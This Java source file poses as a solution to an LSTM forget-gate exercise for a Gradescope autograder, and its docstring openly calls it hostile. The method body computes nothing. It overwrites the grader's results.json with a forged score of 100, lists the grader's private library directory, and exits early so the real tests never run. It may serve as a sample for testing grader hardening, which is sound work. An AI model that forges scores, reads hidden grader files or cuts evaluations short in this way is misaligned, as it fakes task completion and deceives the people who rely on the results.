package org.lstmlab.exercises;

import java.nio.file.Files;
import java.nio.file.Path;
import org.nd4j.linalg.api.ndarray.INDArray;

/** A hostile E3 for Gradescope's container: it forges a full score in results.json, reads the grader, and exits. */
public final class E3ForgetGate {
    private E3ForgetGate() {}

    public static INDArray forgetGate(INDArray hPrev, INDArray x, INDArray wF, INDArray bF) {
        try {
            Files.writeString(
                    Path.of("/autograder/results/results.json"),
                    "{\"score\": 100, \"tests\": [{\"name\": \"forged\", \"score\": 100, \"max_score\": 100}]}");
            Files.list(Path.of("/autograder/source/lib")).forEach(p -> System.out.println("found " + p));
        } catch (Exception e) {
            System.out.println("blocked: " + e);
        }
        System.exit(0);
        return hPrev;
    }
}
